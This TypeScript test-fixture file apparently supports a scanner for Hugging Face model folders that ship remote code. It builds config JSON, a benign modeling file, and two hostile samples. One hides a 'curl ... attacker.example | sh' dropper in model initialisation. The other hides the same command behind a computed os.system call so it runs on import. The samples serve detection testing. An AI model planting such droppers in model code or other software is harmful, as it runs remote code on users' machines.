import { float32 } from './shapes.ts';
import { safetensors } from './formats.ts';
import type { ZipMember } from './zip-writer.ts';

/**
 * Hugging Face model folders as transformers' save_pretrained writes them, with and without remote code
 * (`auto_map` + `modeling_*.py`), for the remote-code checks.
 */
export function hfConfig(extra: Record<string, unknown> = {}): string {
  return JSON.stringify({
    _name_or_path: 'acme/tiny-llama', architectures: ['LlamaForCausalLM'], attention_bias: false, bos_token_id: 1, eos_token_id: 2,
    hidden_act: 'silu', hidden_size: 64, initializer_range: 0.02, intermediate_size: 128, max_position_embeddings: 512, model_type: 'llama',
    num_attention_heads: 4, num_hidden_layers: 2, num_key_value_heads: 4, rms_norm_eps: 1e-6, rope_scaling: null, rope_theta: 10000.0,
    tie_word_embeddings: false, torch_dtype: 'float32', transformers_version: '4.44.0', use_cache: true, vocab_size: 32000, ...extra,
  }, null, 2);
}

export function tokenizerConfig(extra: Record<string, unknown> = {}): string {
  return JSON.stringify({
    add_bos_token: true, add_eos_token: false, bos_token: '<s>', clean_up_tokenization_spaces: false, eos_token: '</s>', legacy: false,
    model_max_length: 2048, pad_token: null, sp_model_kwargs: {}, tokenizer_class: 'LlamaTokenizer', unk_token: '<unk>', ...extra,
  }, null, 2);
}

/** A remote-code modeling file of the kind real repositories ship: lots of Python, nothing dangerous. */
export const benignModeling = `# coding=utf-8
# Copyright 2024 Acme. Licensed under the Apache License, Version 2.0.
"""PyTorch Tiny model. Never call os.system("...") or eval() in modeling code."""
import math
import os
import re
import importlib.util
from typing import Optional, Tuple

import torch
import torch.nn.functional as F
from torch import nn
from transformers.modeling_utils import PreTrainedModel
from transformers.utils import logging

from .configuration_tiny import TinyConfig

logger = logging.get_logger(__name__)
_FLASH = importlib.util.find_spec("flash_attn") is not None
_PATTERN = re.compile(r"layers\\.(\\d+)\\.")


class TinyModel(PreTrainedModel):
    config_class = TinyConfig

    def __init__(self, config, eval: bool = False):
        super().__init__(config)
        self.proj = nn.Linear(config.hidden_size, config.hidden_size)
        self.act = getattr(F, config.hidden_act)
        self.dtype_ = getattr(torch, config.torch_dtype)
        self.cache_dir = os.path.join(os.path.dirname(__file__), "cache")
        if eval:
            self.eval()

    def forward(self, x: torch.Tensor, mask: Optional[torch.Tensor] = None) -> Tuple[torch.Tensor]:
        scale = 1 / math.sqrt(x.shape[-1])
        logger.info(f"scaling by {scale:.3f} for {x.shape!r}")
        out = self.act(self.proj(x) * scale)
        return (torch.compile(lambda t: t)(out) if _FLASH else out,)
`;

export const benignConfiguration = `from transformers.configuration_utils import PretrainedConfig


class TinyConfig(PretrainedConfig):
    model_type = "tiny"

    def __init__(self, hidden_size=64, hidden_act="silu", **kwargs):
        self.hidden_size = hidden_size
        self.hidden_act = hidden_act
        super().__init__(**kwargs)
`;

/** The benign file with a dropper hidden in weight initialisation. */
export const evilModeling = benignModeling.replace('import math\n', 'import math\nimport subprocess as sp\n').replace(
  '        self.proj = nn.Linear',
  '        sp.Popen(["/bin/sh", "-c", "curl -s http://attacker.example/x | sh"])\n        self.proj = nn.Linear',
);

/** The classic obfuscation: a computed module name and attribute. */
export const obfuscatedModeling = `import torch\n\n\ndef _init():\n    getattr(__import__('o' + 's'), 'sys' + 'tem')('curl -s http://attacker.example/x | sh')\n\n\n_init()\n`;

export function remoteCodeConfig(module = 'modeling_tiny', repo?: string): string {
  const prefix = repo ? `${repo}--` : '';
  return hfConfig({ architectures: ['TinyModel'], model_type: 'tiny', auto_map: { AutoConfig: `${prefix}configuration_tiny.TinyConfig`, AutoModel: `${prefix}${module}.TinyModel` } });
}

const text = (s: string): Uint8Array => new TextEncoder().encode(s);

/** A model folder's files as archive members under `root/`. */
export function hfFolder(files: Record<string, string | Uint8Array>, root = 'tiny'): ZipMember[] {
  return Object.entries(files).map(([name, data]) => ({ name: `${root}/${name}`, data: typeof data === 'string' ? text(data) : data }));
}

export function weights(): Uint8Array {
  return safetensors([{ name: 'proj.weight', dtype: 'F32', shape: [2], begin: 0, end: 8 }], float32([0.5, -0.5]), { format: 'pt' });
}
